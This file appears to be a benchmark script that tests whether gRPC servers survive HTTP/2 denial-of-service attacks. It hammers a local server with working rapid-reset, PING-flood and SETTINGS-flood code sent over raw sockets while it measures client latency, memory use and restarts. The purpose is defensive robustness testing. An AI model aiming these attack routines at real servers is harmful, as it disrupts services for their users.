"""HTTP/2 attacks on each runtime's public gRPC port (issue: no client can crash or
starve the server), add_sub, each runtime a ``servekit serve`` process of its own: while
an attacker runs for ``--seconds`` from raw sockets (sending without pause, reconnecting
whenever the server hangs up on it), a polite grpcio client calls on its own connection;
reported per attack: the polite calls' median and slowest latency and how many failed,
how many connections the attacker opened and how each ended, the resident memory of the
server's whole process tree before, at the end of the attack and a second after, and
whether any of its processes was replaced (tritonserver crashed and was restarted).
``triton --no-front`` is tritonserver's own gRPC port, what the Triton runtimes had
public before servekit's gRPC server stood in front of it.

    python bench/h2_attacks.py --out bench/results/h2_attacks
"""

from __future__ import annotations

import argparse
import contextlib
import json
import socket
import statistics
import threading
import time
from pathlib import Path
from typing import Any

import grpc
import hpack
import numpy as np
from tritonclient.grpc import service_pb2, service_pb2_grpc

from servekit import ModelConfig, ServeConfig, ServerConfig, zoo
from servekit.bench.compare import ServerProcess
from servekit.bench.cpu import descendants, tree_rss_bytes
from servekit.bench.report import machine
from servekit.grpc.frames import PREFACE, frame

INFER = "/inference.GRPCInferenceService/ModelInfer"


class RapidReset:
    """HEADERS then RST_STREAM, 10,000 new streams a call (stream ids keep rising, as a
    real client's must)."""

    def __init__(self) -> None:
        enc = hpack.Encoder()
        headers = [(":method", "POST"), (":scheme", "http"), (":path", INFER),
                   (":authority", "x"), ("content-type", "application/grpc")]  # fmt: skip
        self.first, self.block = enc.encode(headers), enc.encode(headers)
        cancel = (8).to_bytes(4, "big")
        # Made up front (five sends, 50,000 streams), so the attacker's Python does not
        # compete with the server for this process's GIL while it sends.
        self.made = [frame(1, 4, 1, self.first) + frame(3, 0, 1, cancel)] + [
            b"".join(
                frame(1, 4, s, self.block) + frame(3, 0, s, cancel)
                for s in range(start, start + 20000, 2)
            )
            for start in range(3, 100003, 20000)
        ]

    def blobs(self):
        yield from self.made
        while True:  # a connection that outlived 50,000 resets: keep it busy with PINGs
            yield frame(6, 0, 0, b"pingpong") * 1000


class Repeat:
    def __init__(self, blob: bytes) -> None:
        self.blob = blob

    def blobs(self):
        while True:
            yield self.blob


ATTACKS = {
    "rapid reset (10,000 streams a send, the attacker reading)": RapidReset,
    "PING flood (200,000 a send, never reading)": lambda: Repeat(
        frame(6, 0, 0, b"pingpong") * 200_000
    ),
    "SETTINGS flood (200,000 a send, never reading)": lambda: Repeat(frame(4, 0, 0) * 200_000),
}


def attacker(
    address: tuple[str, int], attack: Any, until: float, ends: list[str], reads: bool
) -> None:
    """Send the attack's frames without pause on one connection until the server hangs
    up, then reconnect, until ``until``; the rapid-reset attacker reads what comes back
    (as a client must, to keep going), the flooders never do."""
    while time.monotonic() < until:
        try:
            s = socket.create_connection(address, timeout=5)
        except OSError:  # nobody listens: the server is down (restarting)
            ends.append("refused")
            time.sleep(0.05)
            continue
        with s:
            got = bytearray()
            if reads:
                threading.Thread(target=_drain, args=(s, got), daemon=True).start()
            try:
                s.sendall(PREFACE + frame(4, 0, 0))
                for blob in attack.blobs():
                    if time.monotonic() >= until:
                        break
                    s.sendall(blob)
                ends.append("still open at the end")
            except OSError as exc:
                ends.append(
                    "GOAWAY ENHANCE_YOUR_CALM" if b"too many" in got else type(exc).__name__
                )


def _drain(s: socket.socket, got: bytearray) -> None:
    with contextlib.suppress(OSError):
        while chunk := s.recv(1 << 16):
            got.extend(chunk[-4096:])


RUNTIMES = {
    "native": ("native", True),
    "pytriton": ("pytriton", True),
    "triton": ("triton", True),
    "triton --no-front": ("triton", False),
}
"""Row name -> (runtime, servekit's front on the public ports)."""


def polite(stub, until: float, latencies: list[float]) -> int:
    """Calls every 10 ms until ``until``: the latency of each answered one; the failed ones' count."""
    request = service_pb2.ModelInferRequest(model_name="adder")
    for name in ("INPUT0", "INPUT1"):
        request.inputs.add(name=name, datatype="FP32", shape=[1, 16])
        request.raw_input_contents.append(np.ones((1, 16), np.float32).tobytes())
    failed = 0
    while time.monotonic() < until:
        start = time.perf_counter()
        try:
            stub.ModelInfer(request, timeout=10)
            latencies.append(time.perf_counter() - start)
        except grpc.RpcError:
            failed += 1
        time.sleep(0.01)
    return failed


def tree(pid: int) -> tuple[set[int], float]:
    """The server's processes and their resident memory (MB) together."""
    return set(descendants(pid)), tree_rss_bytes(pid) / 2**20


def attack_runtime(label: str, seconds: float) -> list[dict[str, Any]]:
    runtime, front = RUNTIMES[label]
    config = ServeConfig(
        (ModelConfig(str(zoo.build("add_sub")), "adder"),),
        ServerConfig(exit_timeout_s=2, front=front), runtime=runtime,
    ).on_loopback()  # fmt: skip
    rows = []
    with ServerProcess(config) as served:
        served.wait_ready(["adder"])
        address = (config.server.client_host, config.server.grpc_port)
        channel = grpc.insecure_channel(f"{address[0]}:{address[1]}")
        stub = service_pb2_grpc.GRPCInferenceServiceStub(channel)
        for name, make in ATTACKS.items():
            attack = make()
            baseline: list[float] = []
            polite(stub, time.monotonic() + 2, baseline)
            pids, before = tree(served.pid)
            until = time.monotonic() + seconds
            ends: list[str] = []
            latencies: list[float] = []
            reads = name.startswith("rapid")
            thread = threading.Thread(target=attacker, args=(address, attack, until, ends, reads))
            thread.start()
            failed = polite(stub, until, latencies)
            thread.join()
            during = tree(served.pid)[1]
            time.sleep(1)
            after_pids, after = tree(served.pid)
            rows.append({
                "runtime": label,
                "attack": name,
                "polite_median_ms_before": statistics.median(baseline) * 1e3,
                "polite_median_ms": statistics.median(latencies) * 1e3 if latencies else None,
                "polite_max_ms": max(latencies) * 1e3 if latencies else None,
                "polite_calls": len(latencies),
                "polite_failed": failed,
                "attacker_connections": len(ends),
                "attacker_ends": sorted(set(ends)),
                "rss_mb": [before, during, after],
                "processes_replaced": len(pids - after_pids),
            })  # fmt: skip
            print(json.dumps(rows[-1]), flush=True)
        with contextlib.suppress(Exception):
            channel.close()
    return rows


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--seconds", type=float, default=10.0)
    parser.add_argument("--runtimes", default=",".join(RUNTIMES), help=f"of {list(RUNTIMES)}")
    parser.add_argument("--out", type=Path, default=Path("bench/results/h2_attacks"))
    args = parser.parse_args()
    rows = []
    for label in args.runtimes.split(","):
        rows += attack_runtime(label.strip(), args.seconds)
    args.out.parent.mkdir(parents=True, exist_ok=True)
    args.out.with_suffix(".json").write_text(
        json.dumps({"machine": machine(), "seconds": args.seconds, "rows": rows}, indent=1)
    )


if __name__ == "__main__":
    main()
